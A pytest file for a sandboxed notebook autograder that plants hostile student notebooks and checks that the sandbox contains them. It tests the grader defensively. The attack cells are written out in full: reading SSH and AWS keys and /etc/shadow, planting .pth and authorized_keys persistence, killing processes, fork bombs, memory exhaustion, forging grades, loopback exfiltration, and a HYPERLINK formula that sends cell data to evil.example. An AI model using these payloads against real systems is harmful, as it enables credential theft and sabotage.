"""A class with hostile students: each attack of issue 15, graded once beside honest students.

The class folder, the output folder, a fake HOME with decoy keys and an instructor's private
folder all sit inside the kit's folder (``test-artifacts/``), which the sandbox shows read-only:
so the test proves they are hidden even there, not merely outside. A decoy secret is also put in
the grader's environment and in every decoy file. The hostile notebooks know every path (as a
student reading ``/proc/<grader>/cmdline`` would) and try to read, write, kill, fork, allocate,
forge and escape; each attempt is bounded (at most ~1 GB allocated, the sandbox's 24 processes,
a 40 s sleep).

Then: every file has exactly one row; the honest students have their exact scores; no attacker
gets a point it did not earn; the kit, its environment, the class folder and the output folder
are byte-identical apart from the grader's own outputs; no process of the run is alive; the decoy
secret appears in no output. Needs bubblewrap (skipped without it, except under ``CI``).
"""

from __future__ import annotations

import csv
import hashlib
import os
import resource
import shutil
import socket
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest

from crmlib.grading import integrity
from crmlib.grading.batch import grade_folder
from crmlib.grading.report import cell
from crmlib.grading.sandbox import FIRST_UID, Limits, sandbox_works

sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_grading import RIGHT_FN, RIGHT_TABLE, _answer, _demo, _notebook, _start_cells, demo_exercise  # noqa: E402

REPO = Path(__file__).resolve().parents[1]
DECOY = "decoy-8c1f0e-secret"
MARK = "crmlib-adversary-daemon"
JOBS = 2


def _tree(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    """Every path under ``folder`` with the SHA-256 of its content (links and folders by kind)."""
    found: dict[str, str] = {}
    for directory, subdirs, files in os.walk(folder):
        subdirs[:] = [d for d in subdirs if d not in skip]
        for name in subdirs + files:
            path = Path(directory) / name
            rel = path.relative_to(folder).as_posix()
            if path.is_symlink():
                found[rel] = "link:" + os.readlink(path)
            elif path.is_dir():
                found[rel] = "dir"
            else:
                found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _site_packages() -> dict[str, str]:
    sp = Path(integrity.startup_files()[0]).parent if integrity.startup_files() else Path(sys.prefix)
    # every top-level file's content (.pth files, the editable install's finder, ...), and when each
    # folder last changed (not __pycache__: the grader's own imports may add to it)
    found = {}
    for name in sorted(os.listdir(sp)):
        path = sp / name
        if path.is_file():
            found[name] = hashlib.sha256(path.read_bytes()).hexdigest()
        elif name != "__pycache__":
            found[name] = str(path.stat().st_mtime_ns)
    return found


def _kit() -> dict[str, str]:
    skip = (".venv", ".git", "test-artifacts", "__pycache__", ".pytest_cache")
    return {**_tree(REPO, skip), **{f"site-packages/{k}": v for k, v in _site_packages().items()}}


def _attacks(paths: dict[str, str], port: int) -> dict[str, list[str]]:
    """The hostile notebooks' cells (each also loads the exercise, so it is graded as 00_start_here)."""
    p = {k: str(v) for k, v in paths.items()}
    head = "from crmlib.exercises import load\nex = load('00_start_here')\nimport os, sys, json, signal, time, glob\n"
    kit_targets = [p["kit"] + "/crmlib/grading/kernelside.py", p["kit"] + "/crmlib/grading/freetext.py",
                   p["kit"] + "/crmlib/exercises/banks/start_here.py", p["kit"] + "/crmlib/data/messages.json"]
    creations = [p["site"] + "/zz_evil.pth", p["kit"] + "/crmlib/grading/evil.py", p["subs"] + "/alice/resubmit.ipynb",
                 p["out"] + "/evil.txt", p["home"] + "/.bashrc", p["home"] + "/.ssh/authorized_keys",
                 p["kit"] + "/sitecustomize.py"]
    write = (
        head + f"kit_targets = {kit_targets!r}\ncreations = {creations!r}\nwrote = []\n"
        "for t in kit_targets + [" + repr(p["subs"] + "/alice/00_start_here.ipynb") + "]:\n"
        "    try:\n        open(t, 'a').write('\\n# owned\\n'); wrote.append(t)\n    except OSError:\n        pass\n"
        "for t in creations:\n"
        "    try:\n        os.makedirs(os.path.dirname(t), exist_ok=True); open(t, 'w').write('import os; os.system(\"id\")')"
        "; wrote.append(t)\n    except OSError:\n        pass\n"
        "for action in (lambda: os.mkdir(" + repr(p["out"] + "/gradebook.csv") + "),\n"
        "               lambda: os.mkfifo(" + repr(p["out"] + "/submissions.csv") + "),\n"
        "               lambda: os.unlink(" + repr(p["subs"] + "/carol/00_start_here.ipynb") + "),\n"
        "               lambda: os.rename(" + repr(kit_targets[0]) + ", '/tmp/x.py')):\n"
        "    try:\n        action(); wrote.append('action')\n    except OSError:\n        pass\n"
        "remaining_after_2_years = len(wrote)\ncosts_more = json.dumps(wrote)"
    )
    read = (
        head + "found = []\n"
        f"for f in [{p['home'] + '/.ssh/id_rsa'!r}, {p['home'] + '/.aws/credentials'!r}, {p['private'] + '/key.py'!r},"
        f" {p['subs'] + '/alice/00_start_here.ipynb'!r}, '/etc/shadow']:\n"
        "    try:\n        found.append(open(f).read()[:300])\n    except OSError:\n        pass\n"
        "found += [v for k, v in os.environ.items()]\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n        found.append(open(f'/proc/{pid}/cmdline').read()); found.append(open(f'/proc/{pid}/environ').read())\n"
        "    except (OSError, ValueError):\n        pass\n"
        f"for folder in [{p['subs']!r}, {p['out']!r}, {p['home']!r}, {p['private']!r}, '/root', '/home', '/tmp']:\n"
        "    try:\n        found += os.listdir(folder)\n    except OSError:\n        pass\n"
        "costs_more = ' '.join(found)[:5000]\nremaining_after_2_years = costs_more",
        "raise RuntimeError('leak: ' + ' '.join(found)[:180])",
    )
    daemon = ("import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\ntime.sleep(40)\n"
              f"open({p['out'] + '/gradebook.csv'!r}, 'w').write('rewritten')")
    kill = (
        head + f"for pid in [int(x) for x in os.listdir('/proc') if x.isdigit()] + [{os.getpid()}, -1]:\n"
        "    if pid != os.getpid():\n"
        "        try:\n            os.kill(pid, signal.SIGKILL)\n        except OSError:\n            pass\n"
        "import subprocess\n"
        f"subprocess.Popen([sys.executable, '-c', {daemon!r}, '{MARK}'], start_new_session=True)\n"
        "kids = 0\nfor _ in range(60):\n    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
        "    if pid == 0:\n        time.sleep(30)\n        os._exit(0)\n    kids += 1\n"
        "remaining_after_2_years = kids\ncosts_more = 'b'",
    )
    memory = (
        head + "try:\n    hog = bytearray(1500 * 2**20)\n    costs_more = 'allocated'\nexcept MemoryError:\n"
        "    costs_more = 'refused'\nremaining_after_2_years = 1",
        "for _ in range(3):\n    if os.fork() == 0:\n        block = b'x' * (350 * 2**20)\n        time.sleep(30)\n"
        "        os._exit(0)\ntime.sleep(30)",
    )
    forge = (
        head + "FORGED = json.dumps({'remaining_after_2_years': {'value': {'__t': 'ndarray', 'dtype': 'S1000000000',"
        " 'values': [1]}}, 'costs_more': {'value': {'__t': 'npscalar', 'dtype': 'U500000000', 'value': 'a'}}})\n"
        "import builtins\n_real_open = builtins.open\n"
        "def forged_open(path, mode='r', *a, **k):\n"
        "    handle = _real_open(path, mode, *a, **k)\n"
        "    if 'w' in mode and 'answer-' in str(path):\n        handle.write(FORGED); handle.close()\n"
        "        return _real_open(os.devnull, 'w')\n    return handle\n"
        "builtins.open = forged_open\n"
        "import crmlib.exercises.questions as Q\nQ.Question.check = lambda *a, **k: print('Correct')",
    )
    network = (
        head + "reached = []\nimport socket\nfor host in ('127.0.0.1', 'localhost', '::1'):\n"
        f"    try:\n        socket.create_connection((host, {port}), timeout=2).sendall(b'{DECOY}'); reached.append(host)\n"
        "    except OSError:\n        pass\nremaining_after_2_years = len(reached)\ncosts_more = 'c'",
    )
    hang = (
        head + "remaining_after_2_years = 600",
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    )
    return {"write": [write], "read": list(read), "kill": list(kill), "memory": list(memory), "forge": list(forge),
            "network": list(network), "hang": list(hang)}


@pytest.fixture(scope="module")
def attacked():
    problem = sandbox_works()
    if problem:
        if os.environ.get("CI"):
            pytest.fail(f"{problem} [CI is set: the adversarial tests fail instead of being skipped]", pytrace=False)
        pytest.skip(problem)
    base = REPO / "test-artifacts" / f"adversarial-{os.getpid()}"
    shutil.rmtree(base, ignore_errors=True)
    paths = {name: base / name for name in ("subs", "out", "home", "private")}
    for folder in paths.values():
        folder.mkdir(parents=True)
    (paths["home"] / ".ssh").mkdir()
    (paths["home"] / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY----- {DECOY}")
    (paths["home"] / ".aws").mkdir()
    (paths["home"] / ".aws" / "credentials").write_text(f"aws_secret_access_key = {DECOY}")
    (paths["private"] / "key.py").write_text(f"ANSWER = {DECOY!r}")
    site = Path(integrity.startup_files()[0]).parent if integrity.startup_files() else Path(sys.prefix)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.settimeout(0.5)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(100))
            conn.close()

    server = threading.Thread(target=serve, daemon=True)
    server.start()

    attacks = _attacks({**paths, "kit": REPO, "site": site}, listener.getsockname()[1])
    start = _start_cells()
    right = _answer(start, "1000 * 0.8 ** 2", '"a"')
    files: dict[str, str] = {
        "alice/00_start_here.ipynb": _notebook(right),  # honest: 3
        "carol/00_start_here.ipynb": _notebook(_answer(start, "640", '"b"')),  # honest, half right: 2
        # honest, and the last cell crashes the kernel (a segfault): the answers read before count
        "quinn/00_start_here.ipynb": _notebook(right + ["import ctypes\nctypes.string_at(0)"]),
        "rosa/demo.ipynb": _notebook(_demo(RIGHT_FN, RIGHT_TABLE, '"Network faults are the weakest link here."')),
        "=1+1/demo.ipynb": _notebook(_demo("def top_share(m, s):\n    return 0.25", "tiers = 1",
                                           '"=HYPERLINK(\\"http://evil.example/?\\"&A1, \\"click\\")"')),
        ".ipynb": _notebook(right),  # a file with no name: still a row
        ".hidden/00_start_here.ipynb": _notebook(right),  # in a dot-folder: still a row
        **{f"mallory_{name}/00_start_here.ipynb": _notebook(cells) for name, cells in attacks.items()},
    }
    for name, content in files.items():
        path = paths["subs"] / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content, encoding="utf-8")

    from crmlib.grading.classreport import prepare_charts

    prepare_charts()  # the class report's matplotlib finds its font cache in the instructor's real HOME, as in use
    kit_before, subs_before = _kit(), _tree(paths["subs"])
    home_before, private_before = _tree(paths["home"]), _tree(paths["private"])
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    old_home, old_secret = os.environ.get("HOME"), os.environ.get("CRMLIB_DECOY_TOKEN")
    os.environ["HOME"], os.environ["CRMLIB_DECOY_TOKEN"] = str(paths["home"]), DECOY
    started = time.monotonic()
    try:
        graded = grade_folder(paths["subs"], paths["out"], jobs=JOBS, cell_timeout=10, total_timeout=45,
                              progress=None, exercises={"99_demo": demo_exercise()}, hide=[paths["private"]],
                              limits=Limits(memory_mb=1024, processes=24, file_mb=64))
    finally:
        os.environ["HOME"] = old_home or ""
        if old_secret is None:
            os.environ.pop("CRMLIB_DECOY_TOKEN", None)
        seconds = time.monotonic() - started
        stop.set()
        server.join(2)
        listener.close()
    alive = []
    for proc in psutil.process_iter(["cmdline", "uids"]):
        try:
            cmdline = " ".join(proc.info["cmdline"] or [])
            uid = proc.info["uids"].real if proc.info["uids"] else -1
        except psutil.Error:
            continue
        if MARK in cmdline or FIRST_UID <= uid < FIRST_UID + JOBS or "bwrap" in cmdline and str(base) in cmdline:
            alive.append((proc.pid, cmdline[:80]))
    with open(paths["out"] / "gradebook.csv", encoding="utf-8") as handle:
        book = {(r["student"], r["exercise"]): r for r in csv.DictReader(handle)}
    with open(paths["out"] / "submissions.csv", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    result = {
        "paths": paths, "graded": graded, "book": book, "rows": rows, "files": sorted(files), "alive": alive,
        "received": received, "seconds": seconds,
        "kit": (kit_before, _kit()), "subs": (subs_before, _tree(paths["subs"])),
        "home": (home_before, _tree(paths["home"])), "private": (private_before, _tree(paths["private"])),
        "grader_growth_mb": (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before) / 1024,
    }
    yield result
    shutil.rmtree(base, ignore_errors=True)


def _row(attacked, student: str, exercise: str = "00_start_here") -> dict[str, str]:
    return attacked["book"][(student, exercise)]


def test_every_file_has_exactly_one_row(attacked) -> None:
    assert sorted(r["file"] for r in attacked["rows"]) == sorted(cell(f) for f in attacked["files"])
    assert len(attacked["book"]) == len(attacked["files"])  # one file per student here


@pytest.mark.parametrize("student, exercise, total", [
    ("alice", "00_start_here", "3"), ("carol", "00_start_here", "2"), ("quinn", "00_start_here", "3"),
    ("rosa", "99_demo", "4"), (".ipynb", "00_start_here", "3"), (".hidden", "00_start_here", "3"),
])
def test_honest_students_keep_their_exact_scores(attacked, student: str, exercise: str, total: str) -> None:
    row = _row(attacked, student, exercise)
    assert row["total"] == total and row["status"] == "graded", row


@pytest.mark.parametrize("attack", ["write", "read", "kill", "memory", "forge", "network", "hang"])
def test_attackers_get_no_undeserved_point(attacked, attack: str) -> None:
    row = _row(attacked, f"mallory_{attack}")
    assert (row["q1"], row["q2"], row["total"]) == ("0", "0", "0"), row


def test_what_the_attacks_ran_into(attacked) -> None:
    assert _row(attacked, "mallory_hang")["status"] == "timed out"
    assert "could not be stopped" in _row(attacked, "mallory_hang")["message"]
    out = attacked["paths"]["out"]

    def feedback(student: str) -> str:
        return next((out / "feedback" / student).glob("*.md")).read_text(encoding="utf-8")

    assert "more than 1024 MB of memory and was stopped" in feedback("mallory_memory")
    assert "'refused' is not one of the options" in feedback("mallory_memory")  # 1.5 GB at once: refused
    assert "'[]' is not one of the options" in feedback("mallory_write")  # not one write went through
    kids = int(feedback("mallory_kill").split("## q1: Incorrect (0/2 points)\n\n")[1].split(" ")[0])
    assert 0 < kids < 24  # the fork loop ran and hit the process limit
    assert "the kernel died" not in feedback("mallory_kill")  # killing everything it saw hurt nobody
    demo = _row(attacked, "'=1+1", "99_demo")  # a spreadsheet shows the name, never computes it
    assert demo["total"] == "0"
    assert attacked["received"] == []  # nothing reached the grader's loopback
    assert attacked["grader_growth_mb"] < 400  # the forged 1 GB dtype was refused, not allocated


def test_kit_environment_class_folder_and_home_are_untouched(attacked) -> None:
    for name in ("kit", "subs", "home", "private"):
        before, after = attacked[name]
        assert after == before, name


def test_out_holds_only_the_graders_outputs(attacked) -> None:
    out = attacked["paths"]["out"]
    names = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert all(n in ("gradebook.csv", "submissions.csv", "freetext.csv", "report.html", "items.csv")
               or (n.startswith("feedback/") and n.endswith(".md"))
               for n in names), names
    assert all(p.is_dir() and not p.is_symlink() for p in out.rglob("*") if not p.is_file())
    assert len([n for n in names if n.endswith(".md")]) == len(attacked["files"])


def test_formulas_are_escaped_in_every_csv(attacked) -> None:
    out = attacked["paths"]["out"]
    with open(out / "freetext.csv", encoding="utf-8-sig") as handle:
        sheet = {r["student"]: r for r in csv.DictReader(handle)}
    assert sheet["'=1+1"]["answer"].startswith("'=HYPERLINK(")
    for name in ("gradebook.csv", "submissions.csv", "freetext.csv", "items.csv"):
        with open(out / name, encoding="utf-8-sig") as handle:
            for row in csv.reader(handle):
                assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in row), row


def test_no_process_of_the_run_is_alive(attacked) -> None:
    assert attacked["alive"] == []


def test_decoy_secrets_appear_in_no_output(attacked) -> None:
    out = attacked["paths"]["out"]
    for path in out.rglob("*"):
        if path.is_file():
            assert DECOY not in path.read_text(encoding="utf-8-sig"), path
    assert DECOY not in repr([(g.notes, g.message, [r.message for r in g.results]) for g in attacked["graded"]])


def test_the_whole_class_stays_within_its_budget(attacked) -> None:
    assert attacked["seconds"] < 170, attacked["seconds"]
